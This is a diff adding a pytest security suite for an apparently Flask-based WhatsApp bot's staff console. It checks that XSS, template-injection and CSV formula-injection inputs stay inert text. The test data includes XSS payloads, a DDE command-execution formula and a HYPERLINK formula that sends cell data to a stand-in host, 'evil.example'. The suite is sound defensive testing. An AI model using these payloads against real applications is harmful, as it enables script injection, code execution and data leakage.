@@ -1,0 +1,147 @@
+"""Whatever somebody writes, wherever it is shown: it stays text.  Every inbound field, every roster cell, every field of
+every form of the console; then every page is read as a browser reads it."""
+
+from collections import Counter
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from flask.testing import FlaskClient
+from sqlalchemy import select
+
+from bot.content import spreadsheet
+from bot.services import Services
+from bot.settings import ROOT
+from bot.store import announcements, gatherings
+from bot.web.console import new_password
+from tests.announcements.conftest import District
+from tests.conftest import Family
+from tests.console.conftest import announced, busy, district, gathered
+from tests.roster.conftest import Roster, roster
+from tests.security.pages import crawl, fill, kind_of, look
+from tests.test_console import log_in
+from tests.test_login import cheap_passwords
+
+__all__ = ["announced", "busy", "cheap_passwords", "district", "gathered", "roster"]  # these fixtures hold here too
+
+
+def payload(name: str) -> str:
+    return f"mark {name} \"'><xss{name} onerror=alert(1)>{{{{7*7}}}}</textarea></script><!--"
+
+
+INBOUND: dict[str, dict[str, str]] = {
+    "body": {"Body": payload("body")},
+    "profile": {"ProfileName": payload("profile"), "Body": "hello"},
+    "button": {"MessageType": "button", "ButtonText": payload("button"), "Body": payload("buttonbody")},
+    "payload": {"MessageType": "interactive", "ButtonPayload": payload("payload"), "Body": "yes"},
+    "list": {"ListId": payload("list"), "ListTitle": payload("listtitle"), "Body": payload("listbody")},
+    "location": {
+        "MessageType": "location",
+        "Latitude": payload("lat"),
+        "Address": payload("adr"),
+        "Label": payload("lab"),
+    },
+    "media": {"NumMedia": "1", "MediaContentType0": f"audio/{payload('type')}", "MediaUrl0": payload("url")},
+    "file": {"MessageType": "document", "Body": payload("file"), "MediaContentType0": "application/pdf"},
+    "reply": {"OriginalRepliedMessageSid": payload("reply"), "Body": payload("replied")},
+    "place": {"FromCity": payload("city"), "FromState": payload("state"), "Body": "hello"},
+}
+"""A message for each field of Twilio's form that a family, or somebody who plays one, can choose."""
+SHOWN = {"body", "buttonbody", "listbody", "replied"}
+"""These are read by staff: here the test would notice if it looked in vain."""
+
+
+@pytest.mark.long
+def test_every_inbound_field_stays_text(
+    services: Services, client: FlaskClient, busy: None, new_family: Callable[[str], Family], roster: Roster
+) -> None:
+    family = new_family("whatsapp:+12175550177")  # a person talks with it: all it writes is shown
+    for name, fields in INBOUND.items():
+        family.text(fields.get("Body", ""), **{key: value for key, value in fields.items() if key != "Body"})
+        assert family.status == 200, name
+        stranger = new_family(f"whatsapp:US.{payload(name)}"[:120])
+        stranger.text("I want to talk to a person")
+        stranger.text(payload(f"stranger{name}"))
+    cells = ",".join('"' + payload(name).replace('"', '""') + '"' for name in ("school", "language", "role", "tags"))
+    roster.read(f"phone,school,language,role,tags\n217-555-0123,{cells}\n2175550124,lincoln,es,,{payload('tag')!r}\n")
+    assert log_in(client, "root", new_password(services, "root", "administrator", "ana_ruiz")) == 302
+    pages = crawl(client, ["/console/", "/console/cases/1", "/console/cases/2", "/console/cases/3"])
+    assert len(pages) > 40 and {page.path: page.dangers for page in pages if page.dangers} == {}
+    words = "".join(page.words for page in pages)
+    assert {name for name in SHOWN if f"<xss{name} onerror=alert(1)>{{{{7*7}}}}" not in words} == set()
+
+
+@pytest.mark.long
+def test_every_field_of_every_form_stays_text(
+    services: Services, client: FlaskClient, announced: District, gathered: None
+) -> None:
+    client.application.config["WTF_CSRF_ENABLED"] = False
+    assert log_in_without_token(client, services) == 302
+    for round_, link in enumerate(("javascript:alert(1)", 'https://example.org/"><xsslink>')):
+        sent, kinds = 0, Counter[str]()
+        for page in crawl(client, ["/console/"]):
+            for number, form in enumerate(page.forms):
+                kinds[kind_of(form.action)] += 1
+                if kinds[kind_of(form.action)] > 4:
+                    continue
+                name = f"{page.path}{number}{round_}".replace("/", "").replace("?", "").replace("=", "")
+                sent += fill(client, form, payload(name[-40:])[:280], link) in (200, 302, 303)
+        assert sent > 20
+    pages = crawl(client, ["/console/"])
+    with services.database.read() as db:
+        codes = [f"/m/{one}" for one in db.execute(select(announcements.announcements.c.code)).scalars()]
+        codes += [f"/g/{one}" for one in db.execute(select(gatherings.gatherings.c.code)).scalars()]
+    public = [page for path in codes for page in (look(client, path), look(client, f"{path}/kit")) if page]
+    assert len(pages) > 40 and public
+    assert {page.path: page.dangers for page in [*pages, *public] if page.dangers} == {}
+    assert sum("<xss" in page.words for page in pages) > 5, "many pages show what was written"
+
+
+def log_in_without_token(client: FlaskClient, services: Services) -> int:
+    password = new_password(services, "root", "administrator", "ana_ruiz")
+    return client.post("/console/login", data={"name": "root", "password": password}).status_code
+
+
+# --- Spreadsheets ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0"])
+def test_no_cell_is_a_formula(cell: str) -> None:
+    assert spreadsheet.tame(cell) == "'" + cell and spreadsheet.tame(-3) == "-3" and spreadsheet.tame(None) == ""
+    assert spreadsheet.line([cell, "plain", 4, None]).startswith(("'", "\"'"))
+
+
+def test_nobody_else_writes_csv() -> None:
+    writers = [
+        path
+        for path in (ROOT / "bot").rglob("*.py")
+        if "csv.writer" in (text := path.read_text()) or "DictWriter" in text
+    ]
+    assert writers == [ROOT / "bot/content/spreadsheet.py"]
+
+
+@pytest.mark.long
+def test_a_familys_question_is_no_formula_in_the_file(services: Services, client: FlaskClient, gathered: None) -> None:
+    from bot.store import questions
+    from bot.store.db import now
+
+    with services.database.write() as db:
+        questions.ask(db, services.database.vault, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date())
+    assert log_in(client, "root", new_password(services, "root", "administrator", "ana_ruiz")) == 302
+    files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
+    files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
+    assert "'=HYPERLINK" in files[0]
+    assert not [row for file in files for row in file.splitlines() if row.lstrip('"').startswith(spreadsheet.FORMULA)]
+
+
+def test_a_report_of_a_roster_is_no_formula(roster: Roster, tmp_path: Path) -> None:
+    from bot.roster.report import write_to
+
+    roster.read("phone,school\n=cmd|' /C calc'!A0,@lincoln\n")
+    path = tmp_path / "report.csv"
+    with path.open("w", newline="") as file:
+        keep = write_to(file)
+        for one in roster.findings:
+            keep(one)
+    assert path.read_text().count("\n") > 1
+    assert not [row for row in path.read_text().splitlines() if ",=" in row or row.startswith("=")]
